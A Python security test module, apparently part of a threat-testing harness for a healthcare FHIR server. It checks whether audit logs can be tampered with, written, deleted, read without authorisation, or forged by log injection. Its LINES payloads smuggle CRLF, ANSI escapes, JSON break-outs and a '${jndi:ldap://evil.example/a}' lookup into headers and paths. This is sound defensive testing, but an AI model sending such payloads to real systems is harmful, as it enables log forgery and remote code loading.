"""
AUDIT-01: an audit log that is not what was written (CWE-345), or that says what somebody made it say (CWE-117).

Whoever has their hands on the database is played on a copy of a log, which the verifier is then asked about. Whoever
has only the interface tries to write, to delete, to read what is not theirs, and to make one entry look like two.
"""

import asyncio
import base64
import json
import secrets
import time
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import quote, urlsplit

from meridian.audit import checkpoint
from meridian.audit.anchors import Anchors
from meridian.audit.checkpoint import Unsigning
from meridian.audit.verify import verify
from meridian.faults import Fault
from meridian.settings import Settings, load
from meridian.store.database import MariadbServer
from meridian.threats.attack import ARSENAL, Attack, Exchange, NotRun
from meridian.threats.attacker import FHIR, Attacker, Browser
from meridian.threats.tampering import BY_HASHES, BY_ROWS, LEAST, Scratch, Tamper, of_file, of_server
from meridian.vault.master import open_master
from meridian.vault.secrets import Secrets

THREAT = "AUDIT-01"
PUBLIC = "audit/public-key"
SIGNED_WITHIN = 4.0
"""Seconds in which a log is signed and anchored once it has grown; the house signs every second."""
ROLES = ("officer", "clinician", "patient", "stranger")

attack = ARSENAL.attack


async def newest(browser: Browser, count: int = 20) -> list[dict[str, Any]]:
    """The newest AuditEvents that somebody is given; none if none."""
    answer = await browser.ask("GET", f"{FHIR}/AuditEvent?_sort=-date&_count={count}")
    return [one["resource"] for one in answer.json().get("entry", [])] if answer.is_success else []


async def known(attacker: Attacker) -> dict[str, Any]:
    """
    An entry, as the security officer sees it.

    Raises:
        NotRun: If they see none.
    """
    async with attacker.signed_in("officer") as browser:
        found = [one for one in await newest(browser) if one["resourceType"] == "AuditEvent"]
    if not found:
        raise NotRun("the security officer sees no entry")
    return found[0]


# --- hands on the database ---------------------------------------------------------------------------------------


async def of_deployment(attacker: Attacker, org: int) -> tuple[Scratch, Settings, Secrets]:
    """
    A copy of the log of *org* (0: the platform's own), with the deployment's settings and secrets.

    Raises:
        NotRun: If the deployment is elsewhere, or its keys are.
    """
    if attacker.data is None:
        raise NotRun("the deployment is elsewhere; `meridian audit verify` is run where the records are")
    settings = load(attacker.data)
    try:
        vault = Secrets(settings.data / "secrets.sealed", open_master(settings.data / "master.key"))
        vault.get(PUBLIC)
    except (Fault, OSError) as wrong:
        raise NotRun(f"the log's public key is not to be had here: {type(wrong).__name__}") from wrong
    return await _copy(settings, vault, org), settings, vault


async def copied(attacker: Attacker) -> tuple[Scratch, Settings, Secrets]:
    """
    A copy of the log of the attackers' organisation, which is signed to its end if anything is.

    Raises:
        NotRun: If there is none to be had, or too little in it.
    """
    org = int((await known(attacker))["id"].partition("-")[0]) if attacker.local else 0
    scratch, settings, vault = await of_deployment(attacker, org)
    if len(scratch.bodies()) < LEAST:
        raise NotRun(f"the log has fewer than {LEAST} entries")
    await _anchored(settings, org, len(scratch.bodies()))
    return scratch, settings, vault


async def _copy(settings: Settings, vault: Secrets, org: int) -> Scratch:
    server = settings.mariadb
    if server is None:
        return of_file(settings.data / "meridian.db", org)
    login = vault.login(server.password, server.user)
    return await of_server(
        MariadbServer(
            server.host, server.port, login.user, login.password.reveal(), server.database, "", server.tls_ca
        ),
        org,
    )


async def _anchored(settings: Settings, org: int, size: int) -> None:
    """Wait until so many entries are anchored; a log that never is will be found out."""
    until, anchors = time.monotonic() + SIGNED_WITHIN, Anchors(settings.anchors_folder)
    while time.monotonic() < until:
        signed = anchors.newest(org)
        if signed is not None and signed.size >= size:
            return
        await asyncio.sleep(0.05)


async def judged(scratch: Scratch, settings: Settings, vault: Secrets) -> list[str]:
    """What the verifier finds wrong with the copy."""
    anchors, host = Anchors(settings.anchors_folder), urlsplit(settings.public_origin).netloc
    signer = Unsigning(lambda: base64.b64decode(vault.get(PUBLIC).reveal()))
    key = checkpoint.key(signer, checkpoint.name_of(anchors, host, scratch.org))
    report = await verify(scratch, scratch.org, keys=[key], anchors=anchors)  # type: ignore[arg-type]  # it only reads
    return [f"{one.kind} at {one.first}" for one in report.findings]


def unnoticed(ways: dict[str, Tamper]) -> Callable[[Attacker], Awaitable[str | None]]:
    """The attack that tampers in each of these ways."""

    async def run(attacker: Attacker) -> str | None:
        scratch, settings, vault = await copied(attacker)
        if found := await judged(scratch, settings, vault):
            raise NotRun(f"the log was not whole before: {found[0]}")
        attacker.evidence()
        for title, tamper in ways.items():
            with scratch.undone():
                tamper(scratch)
                found = await judged(scratch, settings, vault)
            many = len(scratch.bodies())
            attacker.keep(Exchange(f"of {many} entries, {title}", ", ".join(found) or "whole"))
            if not found:
                return f"{title}, and the verifier calls the log whole"
        return None

    return run


for name, title, ways in (
    ("rows", "Rows of the log are altered, and nobody notices", BY_ROWS),
    ("hashes", "The log is altered and every hash made anew, and nobody notices", BY_HASHES),
):
    ARSENAL.add(Attack(THREAT, f"{THREAT.lower()}/{name}", title, unnoticed(ways)))


# --- by the interface --------------------------------------------------------------------------------------------


def writes(entry: dict[str, Any]) -> list[tuple[str, str, Any]]:
    """Ways of writing to the log: method, path below the base, and body."""
    changed = {**entry, "outcome": "0", "outcomeDesc": "nothing happened"}
    new = {name: value for name, value in changed.items() if name != "id"}
    path, patch = f"/AuditEvent/{entry['id']}", [{"op": "replace", "path": "/outcome", "value": "0"}]
    inside = [
        {"resource": new, "request": {"method": "POST", "url": "AuditEvent"}},
        {"resource": changed, "request": {"method": "PUT", "url": path[1:]}},
        {"request": {"method": "DELETE", "url": path[1:]}},
    ]
    bundles = [
        ("POST", "", {"resourceType": "Bundle", "type": kind, "entry": [one]})
        for kind in ("transaction", "batch")
        for one in inside
    ]
    return [
        ("POST", "/AuditEvent", new),
        ("PUT", path, changed),
        ("PUT", "/AuditEvent/of-my-own", {**new, "id": "of-my-own"}),
        ("PATCH", path, patch),
        ("DELETE", path, None),
        ("DELETE", "/AuditEvent?_count=1", None),
        ("POST", f"{path}/$expunge", {"resourceType": "Parameters"}),
        *bundles,
    ]


async def written(browser: Browser, method: str, path: str, body: Any) -> bool:
    """Whether an answer says that something was written."""
    patch = "application/json-patch+json" if method == "PATCH" else "application/fhir+json"
    content = None if body is None else json.dumps(body).encode()
    answer = await browser.ask(method, FHIR + path, content=content, headers={"Content-Type": patch})
    if not answer.is_success:
        return False
    inside = [one["response"]["status"] for one in answer.json().get("entry", [])] if path == "" else []
    return not inside or any(status.startswith("2") for status in inside)


@attack(THREAT, "write", "An entry is written, altered or deleted by the interface")
async def write(attacker: Attacker) -> str | None:
    """As everybody, and in every way; afterwards the entry is what it was."""
    entry = await known(attacker)
    attacker.evidence()
    for part in ROLES:
        async with attacker.signed_in(part) as browser:
            for method, path, body in writes(entry):
                if await written(browser, method, path, body):
                    return f"{method} {path or 'a bundle'} as the {part} was done"
    async with attacker.signed_in("officer") as browser:
        answer = await browser.ask("GET", f"{FHIR}/AuditEvent/{entry['id']}")
    return None if answer.is_success and answer.json() == entry else "the entry is not what it was"


@attack(THREAT, "read", "Somebody who does not oversee reads the log")
async def read(attacker: Attacker) -> str | None:
    """By search, by id, by include and by history; a patient may see who looked at their own record, and no more."""
    entry = await known(attacker)
    attacker.evidence()
    for part in ("clinician", "patient", "stranger"):
        async with attacker.signed_in(part) as browser:
            for path in (f"/AuditEvent/{entry['id']}", f"/AuditEvent/{entry['id']}/_history/1"):
                if (await browser.ask("GET", FHIR + path)).is_success:
                    return f"the {part} read {path}"
            own = attacker.material.people[part].id if part == "patient" else "nobody"
            for one in await newest(browser):
                if one["resourceType"] == "AuditEvent" and own not in json.dumps(one):
                    return f"the {part} was given an entry"
    return None


LINES = (
    '","outcome":"ok","account":"somebody-else"}}\n{{"seq":1,"agent":"{mark}',
    "{mark}\r\n2026-01-01T00:00:00Z INFO sign-in account=somebody-else",
    "{mark}\x1b[2K\x1b[1A",
    "{mark}\u2028{mark}\u2029\u0085",
    '{mark}", "outcomeDesc": "ok", "x": "',
    "{mark}<script>1</script>${{jndi:ldap://evil.example/a}}",
)
"""What would be the end of an entry and the beginning of another."""


@attack(THREAT, "lines", "What a browser calls itself, or asks for, becomes an entry of its own")
async def lines(attacker: Attacker) -> str | None:
    """In `User-Agent`, in the request's id and in what is asked for: a question leaves one entry, of who asked."""
    record = attacker.material.people["patient"].record
    for no, form in enumerate(LINES):
        mark = f"mark{no}x{secrets.token_hex(5)}"
        text = form.format(mark=mark)
        named = {"User-Agent": _octets(text), "X-Request-ID": quote(text)[:60]}
        async with attacker.signed_in("clinician") as browser:
            answer = await browser.ask("GET", f"{FHIR}/{record}", headers=named)
            await browser.ask("GET", f"{FHIR}/Patient/{quote(text, safe='')}", headers={"User-Agent": mark})
        async with attacker.signed_in("officer") as browser:
            found = [one for one in await newest(browser) if mark in json.dumps(one)]
        if answer.is_success and not found:
            raise NotRun("the question is not in the log at all")
        if len(found) > 2 or any("somebody-else" in str(one["agent"][0].get("who")) for one in found):  # noqa: PLR2004  # two questions
            return f"{text!r} left {len(found)} entries"
        attacker.keep(Exchange(f"User-Agent: {text!r}", f"{len(found)} entries of two questions"))
    return None


def _octets(text: str) -> Any:
    """A header's value: whatever does not end one, in the octets of UTF-8."""
    return "".join(one for one in text if one not in "\r\n\0").encode()
